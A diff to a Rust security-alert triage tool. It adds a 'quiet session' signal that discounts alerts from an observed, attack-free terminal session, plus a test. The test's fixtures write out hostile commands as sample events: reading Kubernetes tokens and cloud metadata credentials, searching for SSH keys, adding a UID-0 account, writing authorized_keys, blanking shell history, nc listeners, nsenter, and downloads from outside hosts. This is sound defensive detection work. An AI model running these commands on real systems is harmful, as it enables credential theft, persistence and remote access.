@@ -442,13 +442,55 @@ pub fn cannot_be_activity(ev: &impl Fields) -> bool {
         "execve" | "execveat" | "connect" | "dup" | "dup2" | "dup3" => false,
         // A schedule entry renamed or linked into place (`Activity::WroteSchedule`).
         "rename" | "renameat" | "renameat2" | "link" | "linkat" | "symlink" | "symlinkat" => false,
-        "open" | "openat" | "openat2" => match ev.value("fd.name").as_ref().and_then(value_text) {
-            Some(path) => !is_credential(&path) && !in_drop_dir(&path) && !is_schedule_entry(&path),
-            None => true,
-        },
-        _ => true,
+        "open" | "openat" | "openat2"
+            if ev
+                .value("fd.name")
+                .as_ref()
+                .and_then(value_text)
+                .is_some_and(|path| {
+                    is_credential(&path) || in_drop_dir(&path) || is_schedule_entry(&path)
+                }) =>
+        {
+            false
+        }
+        "socket" => {
+            let arg = |k: &str| {
+                ev.value(k)
+                    .as_ref()
+                    .and_then(value_text)
+                    .map(|v| v.to_string())
+                    .unwrap_or_default()
+            };
+            !crate::evidence::raw_socket(&arg("evt.arg.domain"), &arg("evt.arg.type"))
+        }
+        // A step toward an attack that a person's quiet session weighs (a setuid bit, a
+        // write to an account database, a security log cleared, credential material read).
+        t => !crate::evidence::may_be_step(
+            t,
+            STEP_PATH_FIELDS.iter().filter_map(|k| {
+                ev.value(k)
+                    .as_ref()
+                    .and_then(value_text)
+                    .map(|v| v.to_string())
+            }),
+        ),
     }
 }
+
+/// The fields that carry the paths [`crate::evidence::attack_step`] reads.
+const STEP_PATH_FIELDS: &[&str] = &[
+    "fd.name",
+    "evt.arg.name",
+    "fs.path.name",
+    "evt.arg.path",
+    "evt.arg.filename",
+    "fs.path.source",
+    "fs.path.target",
+    "evt.arg.oldpath",
+    "evt.arg.newpath",
+    "evt.arg.linkpath",
+    "evt.arg.target",
+];
 
 /// What splits a cluster into parts: the attack signals present, the verdict, whether a
 /// benign signal anchored, and the rules the alert's session raised besides its own.
@@ -1096,6 +1138,20 @@ impl Triage<'_> {
                 out.push(hit("job_reads_by_purpose", 1.0, vec![("target", t)]));
             }
         }
+        // A person's quiet session (issue 11, helper personquiet): a person at a terminal
+        // (tty with a login or runtime exec entry, no service, no system account, no
+        // network stdin), running the system's own program, whose sessions quell saw from
+        // their start, with nothing toward an attack anywhere in them, the alert's own act
+        // included, by the strict test of `Sessions::person_trace` (a download, a program
+        // or script brought in and run, a connection out, credential material read, a
+        // setuid bit, an account or persistence change, a cleared security log, a search
+        // for keys, a request for secrets...), no package installed, and the alert's own
+        // target no persistence location.
+        if let Some(h) =
+            self.person_quiet(ev, records, at, sessions, interactive && kinds.is_empty())
+        {
+            out.push(h);
+        }
         let installed = ctx.iter().any(|c| {
             matches!(&c.act.activity, Activity::Maintenance(n) if crate::evidence::role(n) == crate::evidence::Role::PackageManager)
         });
@@ -1107,6 +1163,46 @@ impl Triage<'_> {
                 .is_some_and(|m| m.entry.anchor_always && shipped_executable(ev)),
         };
         (out, facts)
+    }
+
+    /// The `person_quiet` signal for the alert at `at`, when it holds (see `signals_for`).
+    /// `quiet`: the person test of `signals_for` (interactive, nothing in the window).
+    fn person_quiet(
+        &self,
+        ev: &FlatEvent,
+        records: &[Record],
+        at: usize,
+        sessions: &Sessions,
+        quiet: bool,
+    ) -> Option<Hit> {
+        // The alert's own act reaches an attack goal in one step: a persistence location
+        // touched, or a sensitive target (authentication records, keys, history) read.
+        let read = matches!(
+            ev.get("evt.is_open_read"),
+            Some(quell_rules::Value::Bool(true))
+        );
+        let persistence_target = match target_sensitivity(ev) {
+            Some((_, Sensitivity::Persistence)) => true,
+            Some((_, Sensitivity::High)) => read,
+            _ => false,
+        };
+        let installed = sessions.context(records, at).iter().any(|c| {
+            matches!(&c.act.activity, Activity::Maintenance(n) if crate::evidence::role(n) == crate::evidence::Role::PackageManager)
+        });
+        // A shell in a privileged container is root on the host: whatever it did, its
+        // quiet is not evidence.
+        let privileged = matches!(
+            ev.get("container.privileged"),
+            Some(quell_rules::Value::Bool(true))
+        );
+        let holds = quiet
+            && !privileged
+            && !installed
+            && !persistence_target
+            && shipped_executable(ev)
+            && sessions.seen_whole(records, at)
+            && sessions.person_trace(records, at).is_none();
+        holds.then(|| hit("person_quiet", 1.0, Vec::new()))
     }
 
     fn report(
@@ -2580,6 +2676,370 @@ mod tests {
             &interp,
             rule,
             "an interpreter as pid 1 (code run in an app)",
+        );
+    }
+
+    /// Issue 11 (personquiet): a person at a terminal whose session quell saw from its
+    /// start, with nothing toward an attack in it or in the alert's own act, is anchored
+    /// (`person_quiet`); each near-attack at the same terminal is not: a step toward an
+    /// attack anywhere in the session (before or after the alert, inside or outside the
+    /// context window), in the alert's own act, or a session quell did not see whole.
+    #[test]
+    fn a_persons_quiet_session_is_anchored_and_its_near_attacks_are_not() {
+        // sshd -> bash (session leader 900) -> rm, which removes an application log.
+        let session = |sid: i64,
+                       target: &str,
+                       rm_exe: &str,
+                       leader: bool,
+                       extra: Vec<serde_json::Value>| {
+            let mut evs = Vec::new();
+            if leader {
+                evs.push(json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1_000_000_000_000u64,"proc.pid":sid,"proc.name":"bash","proc.exepath":"/usr/bin/bash","proc.cmdline":"-bash","proc.pname":"sshd","proc.aname[1]":"sshd","proc.apid[1]":sid - 1}));
+            }
+            evs.push(json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1_000_100_000_000u64,"proc.pid":sid + 1,"proc.name":"ls","proc.exepath":"/usr/bin/ls","proc.cmdline":"ls -l /var/log/app"}));
+            evs.push(json!({"evt.type":"unlinkat","evt.rawres":0,"evt.rawtime":1_000_200_000_000u64,"proc.pid":sid + 2,"proc.name":"rm","proc.exepath":rm_exe,"proc.cmdline":format!("rm -f {target}"),"fs.path.name":target}));
+            evs.extend(extra);
+            evs.into_iter()
+                .map(|mut v| {
+                    v["proc.sid"] = json!(sid);
+                    v["proc.tty"] = json!(34816);
+                    if v.get("proc.pname").is_none() {
+                        v["proc.pname"] = json!("bash");
+                        v["proc.aname[1]"] = json!("bash");
+                        v["proc.apid[1]"] = json!(sid);
+                        v["proc.aname[2]"] = json!("sshd");
+                        v["proc.apid[2]"] = json!(sid - 1);
+                    }
+                    l(v)
+                })
+                .collect::<Vec<String>>()
+        };
+        let ev = |t: u64, name: &str, exe: &str, cmd: &str, more: serde_json::Value| {
+            let mut v = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":t,"proc.pid":999_000 + (t / 1_000_000_000) % 1000,"proc.name":name,"proc.exepath":exe,"proc.cmdline":cmd});
+            for (k, val) in more.as_object().unwrap() {
+                v[k] = val.clone();
+            }
+            v
+        };
+        const LOG: &str = "/var/log/app/debug.log";
+        let r = verdict_of(
+            &session(900, LOG, "/usr/bin/rm", true, vec![]),
+            "Clear Log Activities",
+        );
+        assert_eq!(r.len(), 1, "{r:#?}");
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        assert!(signals(&r[0]).contains(&"person_quiet"), "{:#?}", r[0]);
+        assert_eq!(r[0].anchor.as_deref(), Some("person_quiet (quiet_session)"));
+        // Ordinary work beside it keeps the anchor: a local health check, reading a
+        // configuration and an environment, destroying an old key.
+        let benign = vec![
+            ev(
+                1_000_050_000_000,
+                "curl",
+                "/usr/bin/curl",
+                "curl -s http://127.0.0.1:8080/health",
+                json!({}),
+            ),
+            ev(
+                1_000_060_000_000,
+                "cat",
+                "/usr/bin/cat",
+                "cat /proc/1/environ",
+                json!({}),
+            ),
+            ev(
+                1_000_070_000_000,
+                "shred",
+                "/usr/bin/shred",
+                "shred -u /etc/ssl/private/api-2019.key",
+                json!({}),
+            ),
+            ev(
+                1_000_080_000_000,
+                "grep",
+                "/usr/bin/grep",
+                "grep -i DB_ /app/config.yaml",
+                json!({}),
+            ),
+        ];
+        let r = verdict_of(
+            &session(901, LOG, "/usr/bin/rm", true, benign),
+            "Clear Log Activities",
+        );
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+
+        let not_anchored = |lines: Vec<String>, why: &str| {
+            let r = verdict_of(&lines, "Clear Log Activities");
+            assert!(!r.is_empty(), "{why}");
+            for c in &r {
+                assert!(!signals(c).contains(&"person_quiet"), "{why}: {c:#?}");
+                assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{why}: {c:#?}");
+            }
+        };
+        // After the alert, and 30 minutes after it (outside the context window).
+        let late = 1_000_200_000_000 + 30 * 60 * 1_000_000_000;
+        let steps: Vec<(&str, serde_json::Value)> = vec![
+            (
+                "setuid bit by chmod's syscall",
+                json!({"evt.type":"fchmodat","evt.rawres":0,"evt.rawtime":late,"proc.name":"chmod","proc.exepath":"/usr/bin/chmod","evt.arg.filename":"/tmp/.ICE-unix-q","fs.path.name":"/tmp/.ICE-unix-q","evt.arg.mode":"S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID"}),
+            ),
+            (
+                "setuid bit by chmod u+s",
+                ev(
+                    late,
+                    "chmod",
+                    "/usr/bin/chmod",
+                    "chmod u+s /usr/local/bin/helper",
+                    json!({}),
+                ),
+            ),
+            (
+                "setgid bit, octal",
+                ev(
+                    late,
+                    "chmod",
+                    "/usr/bin/chmod",
+                    "chmod 2755 /srv/x",
+                    json!({}),
+                ),
+            ),
+            (
+                "service-account token by cat",
+                ev(
+                    1_000_300_000_000,
+                    "cat",
+                    "/usr/bin/cat",
+                    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+                    json!({}),
+                ),
+            ),
+            (
+                "service-account token opened",
+                json!({"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.is_open_read":true,"evt.rawtime":late,"proc.name":"sh","proc.exepath":"/usr/bin/sh","fd.name":"/run/secrets/kubernetes.io/serviceaccount/token"}),
+            ),
+            (
+                "secrets from the orchestrator API",
+                ev(
+                    late,
+                    "curl",
+                    "/usr/bin/curl",
+                    "curl -s https://10.96.0.1/api/v1/namespaces/shop/secrets",
+                    json!({}),
+                ),
+            ),
+            (
+                "cloud instance credentials",
+                ev(
+                    late,
+                    "curl",
+                    "/usr/bin/curl",
+                    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+                    json!({}),
+                ),
+            ),
+            (
+                "TLS verification off",
+                ev(
+                    late,
+                    "curl",
+                    "/usr/bin/curl",
+                    "curl -sk https://10.0.3.4/status",
+                    json!({}),
+                ),
+            ),
+            (
+                "key search",
+                ev(
+                    late,
+                    "grep",
+                    "/usr/bin/grep",
+                    "grep -rl \"BEGIN OPENSSH PRIVATE\" /home",
+                    json!({}),
+                ),
+            ),
+            (
+                "key search by name",
+                ev(
+                    late,
+                    "find",
+                    "/usr/bin/find",
+                    "find / -name id_rsa",
+                    json!({}),
+                ),
+            ),
+            (
+                "dropped script run",
+                ev(
+                    1_000_150_000_000,
+                    "sh",
+                    "/usr/bin/sh",
+                    "sh /tmp/.p.sh",
+                    json!({}),
+                ),
+            ),
+            (
+                "account added",
+                ev(
+                    late,
+                    "useradd",
+                    "/usr/sbin/useradd",
+                    "useradd -o -u 0 -g 0 svc-backup",
+                    json!({}),
+                ),
+            ),
+            (
+                "authorized_keys written",
+                json!({"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.is_open_write":true,"evt.arg.flags":"O_WRONLY|O_APPEND","evt.rawtime":late,"proc.name":"bash","proc.exepath":"/usr/bin/bash","fd.name":"/root/.ssh/authorized_keys"}),
+            ),
+            (
+                "hardlink to sudoers",
+                json!({"evt.type":"linkat","evt.rawres":0,"evt.rawtime":late,"proc.name":"ln","proc.exepath":"/usr/bin/ln","fs.path.source":"/etc/sudoers","fs.path.target":"/tmp/s"}),
+            ),
+            (
+                "history replaced by /dev/null",
+                json!({"evt.type":"symlinkat","evt.rawres":0,"evt.rawtime":late,"proc.name":"ln","proc.exepath":"/usr/bin/ln","evt.arg.target":"/dev/null","evt.arg.linkpath":"/root/.bash_history"}),
+            ),
+            (
+                "a shell connects out",
+                json!({"evt.type":"connect","evt.rawres":0,"evt.rawtime":late,"proc.name":"bash","proc.exepath":"/usr/bin/bash","fd.name":"10.0.0.9:41000->198.51.100.8:80"}),
+            ),
+            (
+                "a fetch from outside to the terminal",
+                ev(
+                    late,
+                    "curl",
+                    "/usr/bin/curl",
+                    "curl -s https://paste.example.net/raw/x",
+                    json!({}),
+                ),
+            ),
+            (
+                "a download",
+                ev(
+                    1_000_010_000_000,
+                    "wget",
+                    "/usr/bin/wget",
+                    "wget -q http://198.51.100.9/x -O /var/tmp/x",
+                    json!({}),
+                ),
+            ),
+            (
+                "a namespace entered",
+                json!({"evt.type":"setns","evt.rawres":0,"evt.rawtime":late,"proc.name":"bash","proc.exepath":"/usr/bin/bash","evt.arg.nstype":"CLONE_NEWNS"}),
+            ),
+            (
+                "a packet socket",
+                json!({"evt.type":"socket","evt.rawres":3,"evt.rawtime":late,"proc.name":"python3","proc.exepath":"/usr/bin/python3","evt.arg.domain":"AF_PACKET","evt.arg.type":"3"}),
+            ),
+            (
+                "a listening socket",
+                json!({"evt.type":"listen","evt.rawres":0,"evt.rawtime":late,"proc.name":"python3","proc.exepath":"/usr/bin/python3","fd.name":"0.0.0.0:4444"}),
+            ),
+            (
+                "nsenter",
+                ev(
+                    late,
+                    "nsenter",
+                    "/usr/bin/nsenter",
+                    "nsenter -t 1 -m -u -i -n sh",
+                    json!({}),
+                ),
+            ),
+            (
+                "netcat",
+                ev(late, "nc", "/usr/bin/nc", "nc -lvp 4444", json!({})),
+            ),
+            (
+                "the host's root",
+                ev(
+                    late,
+                    "cat",
+                    "/usr/bin/cat",
+                    "cat /proc/1/root/etc/hostname",
+                    json!({}),
+                ),
+            ),
+            (
+                "the runtime's socket",
+                json!({"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.is_open_read":true,"evt.rawtime":late,"proc.name":"curl","proc.exepath":"/usr/bin/curl","fd.name":"/var/run/docker.sock"}),
+            ),
+            (
+                "a copy to a host inside the site",
+                ev(
+                    late,
+                    "scp",
+                    "/usr/bin/scp",
+                    "scp /srv/app/db.sql backup@10.0.0.7:/srv/in/",
+                    json!({}),
+                ),
+            ),
+        ];
+        for (i, (why, step)) in steps.into_iter().enumerate() {
+            not_anchored(
+                session(910 + 10 * i as i64, LOG, "/usr/bin/rm", true, vec![step]),
+                why,
+            );
+        }
+        // The alert's own act is an attack goal: a security log cleared.
+        not_anchored(
+            session(1200, "/var/log/auth.log", "/usr/bin/rm", true, vec![]),
+            "auth.log removed",
+        );
+        // A shell in a privileged container.
+        let privileged: Vec<String> = session(1240, LOG, "/usr/bin/rm", true, vec![])
+            .into_iter()
+            .map(|line| {
+                let mut v: serde_json::Value = serde_json::from_str(&line).unwrap();
+                v["container.id"] = json!("4410ba000000");
+                v["container.privileged"] = json!(true);
+                l(v)
+            })
+            .collect();
+        not_anchored(privileged, "a privileged container");
+        // The alert's own act reads a sensitive target (rule "Read ssh").
+        let r = verdict_of(
+            &session(
+                1250,
+                LOG,
+                "/usr/bin/rm",
+                true,
+                vec![
+                    json!({"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.is_open_read":true,"evt.rawtime":1_000_300_000_000u64,"proc.pid":1253,"proc.name":"less","proc.exepath":"/usr/bin/less","fd.name":"/root/.ssh/known_hosts"}),
+                ],
+            ),
+            "Read ssh",
+        );
+        assert!(!r.is_empty());
+        assert!(
+            r.iter().all(|c| !signals(c).contains(&"person_quiet")),
+            "{r:#?}"
+        );
+        // Not the system's own program.
+        not_anchored(
+            session(1210, LOG, "/root/.local/bin/rm", true, vec![]),
+            "not the system's rm",
+        );
+        // quell did not see the session start.
+        not_anchored(
+            session(1220, LOG, "/usr/bin/rm", false, vec![]),
+            "session start unseen",
+        );
+        // A package installed in the session.
+        not_anchored(
+            session(
+                1230,
+                LOG,
+                "/usr/bin/rm",
+                true,
+                vec![ev(
+                    1_000_150_000_000,
+                    "apt-get",
+                    "/usr/bin/apt-get",
+                    "apt-get install -y nmap",
+                    json!({}),
+                )],
+            ),
+            "a package installed",
         );
     }
 }
